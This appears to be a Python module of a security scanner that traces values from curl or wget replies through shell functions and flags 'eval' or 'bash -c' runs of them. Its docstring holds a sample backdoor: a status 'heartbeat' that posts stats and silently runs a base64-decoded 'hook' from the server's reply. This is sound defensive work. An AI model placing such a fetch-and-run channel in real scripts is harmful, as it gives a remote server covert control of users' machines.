"""Shell scripts that run as a command what a web request returned (AITech 9.1).

The family (a remote command channel dressed as a feature): a "heartbeat" or "status
check" posts to a server and applies the "remediation", "hook" or "task" the reply
carries, often base64-encoded, with ``bash -c "$snippet"`` or ``eval "$cmd"``. The request
and the run sit in different functions, often in a sourced library, linked by variables
and function arguments; the one-line cradle rules (``eval "$(curl …)"``) do not see it.

Taint is by name and deliberately simple, over the script and the package's shell files
it sources read as one program: a variable set from a request's reply (``$(curl …)``
without an output file), from a function that prints one, or from a tainted variable is
tainted, and so are the variables a ``while read`` loop fed by a request reads. A function
called with a tainted argument has tainted positional parameters (``$1``, ``$@``) in its
own body only. The finding is a run whose whole command is a tainted value: ``eval
"$cmd"``, ``bash -c "$1"``, ``echo "$step" | sh``; a value used inside a larger command
(``git checkout "$tag"``) is left alone.

>>> files = {
...     "scripts/lib/beat.sh": '''
... beat() { curl -fsS -d "$1" "$STATUS_URL"; }
... run_hook() { bash -c "$1" >/dev/null 2>&1 & }
... apply() {
...   local s; s="$(jq -r '.hook // empty' <<<"$1" | base64 -d)"
...   run_hook "$s"
... }''',
...     "scripts/mon.sh": 'source "$HERE/lib/beat.sh"\\nresp="$(beat "$stats")"\\napply "$resp"\\n',
... }
>>> [(f.file, f.line, f.rule_id) for f in shell_remote_code_findings(files)]
[('scripts/lib/beat.sh', 3, 'shell.remote-code')]
>>> shell_remote_code_findings({**files, "scripts/mon.sh": 'resp="$(beat x)"\\napply "$resp"'})
[]
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass

from .findings import ThreatFinding, line_finding
from .sourced_settings import sourced_paths
from .structure import SHELL, classify
from .textutil import is_test_file

RULE_ID = "shell.remote-code"

_REQUEST = re.compile(r"(?<![\w.-])(?P<program>curl|wget)(?![\w.-])(?P<words>[^\n|;&)]*)")
_SAVED = {
    "curl": re.compile(
        r"(?:^|\s)(?:-[a-zA-Z]*[oO]|--output|--remote-name)(?:[\s=]+(?!-(?:\s|$))|$)"
    ),
    "wget": re.compile(r"^(?!.*(?:\s-[a-zA-Z]*O\s*-(?:\s|$)|--output-document[=\s]+-(?:\s|$)))"),
}
"""A request whose reply goes to a file rather than to the script."""
_STDOUT_REDIRECT = re.compile(r"(?:^|\s)(?:1?>|&>)\s*\S")
_FUNCTION = re.compile(
    r"^[ \t]*(?:function[ \t]+([\w:.-]+)(?:[ \t]*\(\))?|([\w:.-]+)[ \t]*\(\))[ \t]*\{?", re.M
)
_ASSIGNED = re.compile(
    r"(?:^|[\s;&(])(?:(?:local|export|readonly|declare(?:[ \t]+-\w+)?)[ \t]+)?"
    r"([A-Za-z_]\w*)\+?=(?!=)([^\n]*)"
)
_READ = re.compile(r"\b(?:read|mapfile|readarray)\b(?:[ \t]+-\w+)*((?:[ \t]+[A-Za-z_]\w*)+)")
_FED = re.compile(r"[ \t]*(?:<<<|<[ \t]*<\()(?P<feed>[^\n]*)")
_FOR_LOOP = re.compile(r"\bfor[ \t]+([A-Za-z_]\w*)[ \t]+in\b([^\n;]*)")
_FED_DONE = re.compile(r"\bdone\b(?P<fed>[^\n]*)")
_VARIABLE = re.compile(r"\$\{?#?([A-Za-z_]\w*|[1-9@*])")
_POSITIONAL = {str(n) for n in range(1, 10)} | {"@", "*"}
_ALL_POSITIONS = "@"
"""Every positional parameter, tainted at once by a call passing ``"$@"`` on."""
_WORD = re.compile(r"\"(?:[^\"\\]|\\.)*\"|'[^']*'|[^\s]+")
_RUN = re.compile(
    r"(?<![\w.-])(?:eval|(?:ba|z|da|k)?sh[ \t]+-c)[ \t]+(?P<run>[^\n]*)"
    r"|(?<![\w.-])(?:echo|printf)(?:[ \t]+-\w+)*[ \t]+(?P<piped>[^\n|]*)\|[ \t]*(?:ba|z|da)?sh\b"
    r"(?![ \t]+[\w./-]+\.sh\b)"
    r"|(?<![\w.-])(?:ba|z|da)?sh[ \t]+<<<[ \t]*(?P<fed>[^\n]*)"
    r"|(?<![\w.-])(?:source|\.)[ \t]+<\([ \t]*(?:echo|printf)(?:[ \t]+-\w+)*"
    r"[ \t]+(?P<sourced>[^\n]*)"
)
"""A run of text as a shell command, and the words it runs."""
_WHOLE_VALUE = re.compile(
    r"""^["']?\$(?:\{(\w+|[1-9@*])[^}]*\}|(\w+|[1-9@*]))["']?(?:\s|$|[;&|)])"""
)
"""A command that is one variable's value and nothing else (``"$snippet"``, ``${1:-}``)."""
_SAYS = "runs as a command what a web request returned (a remote command channel)"
_ROUNDS = 5
"""Passes over the program: enough for a value handed through a few helpers."""


@dataclass(frozen=True)
class _Line:
    path: str
    number: int
    text: str


@dataclass(frozen=True)
class _Function:
    start: int
    end: int
    body: str


def shell_remote_code_findings(files: Mapping[str, str]) -> list[ThreatFinding]:
    """One finding per shell command that runs what a web request returned, over each
    shell script of ``files`` read with the shell files it sources."""
    findings: dict[tuple[str, int], ThreatFinding] = {}
    for path, text in files.items():
        if is_test_file(path) or classify(path, text) != SHELL:
            continue
        program = [_Line(path, n, line) for n, line in enumerate(text.split("\n"), 1)]
        for sourced in sourced_paths(text, files):
            if sourced != path:
                lines = files[sourced].split("\n")
                program += [_Line(sourced, n, line) for n, line in enumerate(lines, 1)]
        if not any(_REQUEST.search(line.text) for line in program):
            continue
        for line in _remote_runs(program):
            lines = files[line.path].split("\n")
            findings.setdefault(
                (line.path, line.number),
                line_finding(line.path, lines, line.number, "9.1", "critical", _SAYS, RULE_ID),
            )
    return list(findings.values())


def _remote_runs(program: list[_Line]) -> Iterator[_Line]:
    """The lines of ``program`` whose whole run command is a value a request returned."""
    code = [
        _Line(line.path, line.number, "") if line.text.lstrip().startswith("#") else line
        for line in program
    ]
    functions = _functions([line.text for line in code])
    fetching = _fetching(functions)
    tainted: set[str] = set()
    tainted_params: dict[str, set[str]] = {name: set() for name in functions}
    for _ in range(_ROUNDS):
        before = (len(tainted), sum(map(len, tainted_params.values())))
        for index, line in enumerate(code):
            within = _enclosing(functions, index)
            mentions = _tainted_mentions(tainted, tainted_params, within)
            for name, value in _ASSIGNED.findall(line.text):
                if _replies(value, fetching) or mentions(value):
                    tainted.add(name)
            for read in _READ.finditer(line.text):
                feed = _read_feed(code, index, read)
                if _replies(feed, fetching) or mentions(feed):
                    tainted |= set(read.group(1).split())
            for name, items in _FOR_LOOP.findall(line.text):
                if _replies(items, fetching) or mentions(items):
                    tainted.add(name)
            for name in functions:
                for arguments in _call_arguments(line.text, name):
                    tainted_params[name] |= {
                        _ALL_POSITIONS if word.strip("\"'") in ("$@", "$*") else str(position)
                        for position, word in enumerate(arguments, 1)
                        if mentions(word)
                    }
        if (len(tainted), sum(map(len, tainted_params.values()))) == before:
            break
    for index, line in enumerate(code):
        run = _RUN.search(line.text)
        if run is None:
            continue
        command = next(group for group in run.groups() if group is not None)
        whole = _WHOLE_VALUE.match(command.strip())
        if whole is None or _REQUEST.search(command):
            continue
        name = whole.group(1) or whole.group(2)
        mentions = _tainted_mentions(tainted, tainted_params, _enclosing(functions, index))
        if mentions(f"${name}"):
            yield line


def _functions(lines: list[str]) -> dict[str, _Function]:
    """Each shell function of ``lines``: the lines its body spans, and the body."""
    found = {}
    text = "\n".join(lines)
    starts = [0]
    for line in lines:
        starts.append(starts[-1] + len(line) + 1)
    for match in _FUNCTION.finditer(text):
        opening = text.find("{", match.start(), match.end() + 200)
        if opening < 0:
            continue
        closing = _closing_brace(text, opening)
        first = _line_index(starts, match.start())
        last = _line_index(starts, closing)
        found[match.group(1) or match.group(2)] = _Function(first, last, text[opening:closing])
    return found


def _closing_brace(text: str, opening: int) -> int:
    depth = 0
    for index in range(opening, len(text)):
        if text[index] == "{":
            depth += 1
        elif text[index] == "}":
            depth -= 1
            if depth == 0:
                return index
    return len(text)


def _line_index(starts: list[int], offset: int) -> int:
    low, high = 0, len(starts) - 1
    while low < high:
        middle = (low + high + 1) // 2
        if starts[middle] <= offset:
            low = middle
        else:
            high = middle - 1
    return low


def _enclosing(functions: dict[str, _Function], index: int) -> str:
    """The innermost function whose body holds line ``index``; "" at the top level."""
    best, span = "", None
    for name, function in functions.items():
        inside = function.start <= index <= function.end
        if inside and (span is None or function.end - function.start < span):
            best, span = name, function.end - function.start
    return best


def _fetching(functions: dict[str, _Function]) -> set[str]:
    """The functions that print a request's reply, directly or through another one."""
    fetching = {name for name, f in functions.items() if _replies(f.body, set())}
    while True:
        more = {
            name
            for name, f in functions.items()
            if name not in fetching and any(_calls(f.body, other) for other in fetching)
        }
        if not more:
            return fetching
        fetching |= more


def _replies(text: str, fetching: set[str]) -> bool:
    """Whether ``text`` holds a request whose reply is printed, or a call of a function
    that prints one.

    >>> _replies('r="$(curl -fsS "$URL")"', set()), _replies("curl -so out.json $U", set())
    (True, False)
    >>> _replies("wget -qO- $U", set()), _replies("wget $U", set())
    (True, False)
    """
    for request in _REQUEST.finditer(text):
        words = request.group("words")
        if not _SAVED[request.group("program")].search(words) and not _STDOUT_REDIRECT.search(
            words
        ):
            return True
    return any(_calls(text, name) for name in fetching)


def _calls(line: str, function: str) -> bool:
    """Whether ``line`` calls ``function`` (not defines it)."""
    return bool(_call_arguments(line, function))


def _call_arguments(line: str, function: str) -> list[list[str]]:
    """The argument words of each call of ``function`` on ``line`` (its definition is none).

    >>> _call_arguments('out="$(beat "$s" x)"; beat', "beat")
    [['"$s"', 'x'], []]
    """
    if re.match(r"\s*function\b", line):
        return []
    calls = []
    for match in re.finditer(rf"(?:^|[\s;&|(`]){re.escape(function)}(?=[ \t]|$|[;&|)`])", line):
        rest = line[match.end() :]
        if rest.lstrip().startswith("()"):
            continue
        calls.append(_WORD.findall(re.split(r"[;&|)`]", rest, maxsplit=1)[0]))
    return calls


def _tainted_mentions(
    tainted: set[str], tainted_params: dict[str, set[str]], within: str
) -> Callable[[str], bool]:
    """A test of whether a text mentions a tainted variable, seen from function ``within``
    (whose tainted positional parameters are ``tainted_params[within]``)."""
    params = tainted_params.get(within, set())

    def mentions(text: str) -> bool:
        for name in _VARIABLE.findall(text):
            if name in _POSITIONAL:
                if name in params or _ALL_POSITIONS in params or (name in "@*" and params):
                    return True
            elif name in tainted:
                return True
        return False

    return mentions


def _read_feed(code: list[_Line], index: int, read: re.Match[str]) -> str:
    """What a ``read`` (or ``mapfile``) at line ``index`` reads: a here-string or process
    substitution after it, a pipe into it, or what feeds the ``while`` loop it heads.

    >>> code = [_Line("a.sh", 1, "while read -r c; do"), _Line("a.sh", 2, 'done < <(curl "$U")')]
    >>> _read_feed(code, 0, _READ.search(code[0].text))
    'curl "$U")'
    """
    text = code[index].text
    fed = _FED.match(text, read.end())
    if fed:
        return fed.group("feed")
    before = text[: read.start()]
    if "|" in before:
        return before
    if not re.search(r"\bwhile\b", before):
        return ""
    for line in code[index : index + 60]:
        done = _FED_DONE.search(line.text)
        if done:
            fed = _FED.match(done.group("fed"))
            return fed.group("feed") if fed else ""
    return ""
